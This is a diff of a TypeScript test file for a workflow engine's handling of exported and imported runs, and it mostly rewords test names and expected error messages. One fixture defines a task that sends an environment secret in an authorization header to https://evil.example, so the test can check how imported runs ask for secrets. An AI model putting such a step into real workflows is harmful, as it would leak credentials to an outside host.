@@ -8,7 +8,7 @@ import { makeRequest, openEngine, start } from '../../../testing/openEngine.ts';
 import { TWO_CALLS } from '../../../testing/twoCalls.ts';
 import type { SecretQuestion } from '../protocol/protocol.ts';
 
-// Loaded on first use, which would be counted in turns of the clock.
+// Loaded on first use, which would take turns of the clock.
 beforeAll(async () => {
   await Promise.all([import('../../../check/index.ts'), loadPatterns()]);
 });
@@ -20,7 +20,7 @@ beforeEach(() => {
 const fetch: typeof globalThis.fetch = async () => Response.json({ n: 1 });
 
 describe('an exported run', () => {
-  test('is imported as a run to look at, that never goes on', async () => {
+  test('is imported as a run to view, which is never resumed', async () => {
     const page = openEngine({ fetch });
     const runId = await start(page, makeRequest(TWO_CALLS));
     await page.finished(runId);
@@ -41,7 +41,7 @@ describe('an exported run', () => {
     '[1]',
     '{"format":"signalbox-run/1"}',
     '{"format":"signalbox-run/1","summary":{},"details":{},"inputs":[],"proofs":[]}',
-  ])('that is none is refused with words: %s', async (text) => {
+  ])('that is invalid is refused with a message: %s', async (text) => {
     await expect(openEngine().engine.importRun(text, 'run.json')).rejects.toThrow(/exported run/);
   });
 
@@ -53,7 +53,7 @@ describe('an exported run', () => {
       - {id: send, type: basic, use: "core:http", with: {url: "https://evil.example", headers: {authorization: "{{ env.KEY }}"}}}
   `;
 
-  test('is forked as one from that file: its question of a secret says so, and it writes over nothing', async () => {
+  test('is forked as an imported run: its question about a secret names the file, and it overwrites nothing', async () => {
     const page = openEngine({ fetch });
     const runId = await start(page, makeRequest(FOREIGN, { path: 'own.yaml', simulate: true }));
     await page.finished(runId);
@@ -83,7 +83,7 @@ describe('an exported run', () => {
     expect(fork?.isImported).toBeUndefined();
   });
 
-  test('can be kept for ever, and holds no salt', async () => {
+  test('can be kept, and holds no salt', async () => {
     const page = openEngine({ fetch });
     const runId = await start(page, makeRequest(TWO_CALLS));
     await page.finished(runId);
@@ -92,7 +92,7 @@ describe('an exported run', () => {
     expect(await page.engine.exportRun(runId)).not.toContain('salt');
   });
 
-  describe('that was changed after it was saved is refused with what was changed', () => {
+  describe('that was changed after it was saved is refused with the part that was changed', () => {
     const imports = TWO_CALLS.replace('tasks:', 'tools: [{ id: note, import: ./note.yaml }]\ntasks:');
     const files = new Map([['note.yaml', 'use: core:log\nschema: { input: {}, output: {} }']]);
 
@@ -118,8 +118,8 @@ describe('an exported run', () => {
         (saved) => saved.replace('"simulate": false,\n   "engine"', '"plan": {},\n   "simulate": false,\n   "engine"'),
         /^The start/,
       ],
-      ['answer', (saved) => saved.replace('"n": 1', '"n": 2'), /: input \d+, or what is said of the events/],
-      ['proof', (saved) => saved.replace(/"digest": "\w/, '"digest": "x'), /: input 1, or what is said of the events/],
+      ['answer', (saved) => saved.replace('"n": 1', '"n": 2'), /: input \d+, or the record of its events/],
+      ['proof', (saved) => saved.replace(/"digest": "\w/, '"digest": "x'), /: input 1, or the record of its events/],
       [
         'end',
         (saved) => {
